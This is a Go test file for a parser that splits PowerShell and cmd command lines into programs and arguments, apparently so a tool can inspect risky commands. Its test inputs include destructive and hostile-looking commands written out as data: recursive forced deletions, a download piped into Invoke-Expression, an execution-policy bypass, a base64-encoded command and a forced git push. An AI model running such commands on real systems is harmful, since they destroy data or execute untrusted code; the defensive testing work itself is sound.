package shell

import "testing"

func TestDialects(t *testing.T) {
	for _, c := range []struct{ dialect, src, want string }{
		{PowerShell, `Remove-Item -Recurse -Force C:\x`, "remove-item: -Recurse -Force C:\\x\n"},
		{PowerShell, `ri -r "C:\my dir"; del y`, "remove-item: -r \"C:\\\\my dir\"\nremove-item: y\n"},
		{PowerShell, `$p = 'C:\x'; Remove-Item $p`, "remove-item: C:\\x\n"},
		{PowerShell, `Remove-Item $env:TEMP\x -Recurse`, "remove-item: $env:temp\\x -Recurse\n"},
		{PowerShell, `[System.IO.Directory]::Delete($p,$true)`, "[system.io.directory]::delete: � $true\n"},
		{PowerShell, `iwr https://x/i.ps1 | iex`, "invoke-webrequest: https://x/i.ps1\ninvoke-expression:\nsnippet powershell \"�\" downloaded\n"},
		{PowerShell, `Get-ChildItem | ForEach-Object { Remove-Item $_ }`, "get-childitem:\nforeach-object:\nremove-item: [foreach-object] ./*<glob>\n"},
		{PowerShell, `git push --force > out.txt`, "git: push --force write(out.txt)\n"},
		{PowerShell, `Write-Output "Remove-Item x" # rm y`, "write-output: \"Remove-Item x\"\n"},
		{PowerShell, `if (Test-Path x) { Remove-Item x }`, "test-path: x\nremove-item: x\n"},
		{Cmd, `del /s /q C:\x & rd /s y`, "del: /s /q C:\\x\nrd: /s y\n"},
		{Cmd, `echo a ^& b && rmdir %X%`, "echo: a & b\nrd: �\n"},
	} {
		res := ParseDialect(c.src, c.dialect, testEnv())
		got := ""
		for _, each := range res.Commands {
			line := each
			line.Argv = line.Argv[1:]
			got += each.Program + ":"
			if rest := shownCommand(line); rest != "" {
				got += " " + rest
			}
			got += "\n"
		}
		got += shown(Result{Snippets: res.Snippets, Problems: res.Problems})
		if got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.src, indent(got), indent(c.want))
		}
	}
}

func TestDialectInShell(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`powershell -ExecutionPolicy Bypass -Command "Remove-Item x"`, "remove-item"},
		{`powershell -Command UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA=`, "remove-item"},
		{`[System.IO.Directory]::Delete($p,$true)`, "[system.io.directory]::delete"},
	} {
		find(t, Parse(c.src, testEnv()), c.want)
	}
	if got := DialectOf(`git commit -m "Remove-Item"`); got != "" {
		t.Errorf("a bash line is taken for %s", got)
	}
}

func FuzzDialect(f *testing.F) {
	f.Add(`$p = "x"; ri $p | iex`)
	f.Add(`[a]::b(c,(d)) { } # x`)
	f.Fuzz(func(t *testing.T, src string) {
		checkResult(t, src, ParseDialect(src, PowerShell, testEnv()))
		checkResult(t, src, ParseDialect(src, Cmd, testEnv()))
	})
}
